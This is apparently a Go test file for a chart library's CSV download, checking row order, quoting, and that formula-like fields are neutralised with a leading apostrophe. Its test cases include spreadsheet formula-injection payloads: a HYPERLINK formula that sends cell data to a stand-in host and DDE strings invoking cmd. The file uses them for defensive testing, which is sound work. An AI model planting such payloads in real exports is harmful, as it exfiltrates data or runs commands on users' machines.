package chart

import (
	"strings"
	"testing"
)

// TestCSVRows: a download has one row per cell that is not Absent, in
// the grid's order, with id columns only where ids differ from labels,
// and quotes where spreadsheets need them; a chart's CSV is the same
// however often it is written.
func TestCSVRows(t *testing.T) {
	years := []Item{{ID: "2024", Label: "2024"}, {ID: "2025", Label: "2025"}}
	groups := []Item{{ID: "ell", Label: "English learners"}, {ID: "all", Label: "All, \"every\" student"}}
	grid := func(seriesFirst bool, series []Item, seriesName string) *Grid {
		g := newGrid(years, series)
		g.CategoryName, g.SeriesName, g.ValueName = "Year", seriesName, "Proficient"
		g.Extra = []string{"Tested"}
		g.SeriesFirst = seriesFirst
		for s := range series {
			for c := range years {
				g.Cells[s][c] = Cell{State: Value, Text: strings.Repeat("1", s+1) + "%", Extra: []string{" 12"}}
			}
		}
		if len(series) > 1 {
			g.Cells[1][0].State = Absent
		}
		return g
	}
	for _, tc := range []struct {
		name string
		grid *Grid
		want string
	}{
		{"one series, no series column", grid(false, groups[:1], ""),
			"Year,Proficient,Tested\n2024,1%,\" 12\"\n2025,1%,\" 12\"\n"},
		{"by category, series ids", grid(false, groups, "Group"),
			"Year,Group id,Group,Proficient,Tested\n" +
				"2024,ell,English learners,1%,\" 12\"\n" +
				"2025,ell,English learners,1%,\" 12\"\n" +
				"2025,all,\"All, \"\"every\"\" student\",11%,\" 12\"\n"},
		{"by series first", grid(true, groups, "Group"),
			"Group id,Group,Year,Proficient,Tested\n" +
				"ell,English learners,2024,1%,\" 12\"\n" +
				"ell,English learners,2025,1%,\" 12\"\n" +
				"all,\"All, \"\"every\"\" student\",2025,11%,\" 12\"\n"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			c := &Chart{Grid: tc.grid}
			if got := string(c.CSV()); got != tc.want {
				t.Errorf("CSV =\n%s\nwant\n%s", got, tc.want)
			}
			if again := string(c.CSV()); again != tc.want {
				t.Errorf("written again:\n%s", again)
			}
		})
	}
}

// TestCSVFieldsAreText: a download's field that a spreadsheet would take
// for a formula is written with an apostrophe first, whoever wrote it (a
// school's name, a group's label, a heading); the signed numbers folio
// writes are left as they are.
func TestCSVFieldsAreText(t *testing.T) {
	for _, tc := range []struct{ in, want string }{
		{`=HYPERLINK("https://evil.example/?x="&A1,"Details")`, `'=HYPERLINK("https://evil.example/?x="&A1,"Details")`},
		{"@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"},
		{"+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"},
		{"-2+3", "'-2+3"},
		{"\tTab", "'\tTab"},
		{"\rReturn", "'\rReturn"},
		{"-", "'-"},
		{"+4.3 pp", "+4.3 pp"},
		{"-12.5%", "-12.5%"},
		{"-1,234", "-1,234"},
		{"Lincoln Middle", "Lincoln Middle"},
		{"≥95%", "≥95%"},
		{"", ""},
	} {
		if got := spreadsheetText(tc.in); got != tc.want {
			t.Errorf("spreadsheetText(%q) = %q, want %q", tc.in, got, tc.want)
		}
	}
	g := newGrid([]Item{{ID: "a", Label: "=1+2"}}, []Item{{ID: "s", Label: "@x"}})
	g.CategoryName, g.SeriesName, g.ValueName = "School", "-Group", "Gain"
	g.Cells[0][0] = Cell{State: Value, Text: "+4.3 pp"}
	want := "School id,School,'-Group id,'-Group,Gain\na,'=1+2,s,'@x,+4.3 pp\n"
	if got := string((&Chart{Grid: g}).CSV()); got != want {
		t.Errorf("CSV =\n%s\nwant\n%s", got, want)
	}
}
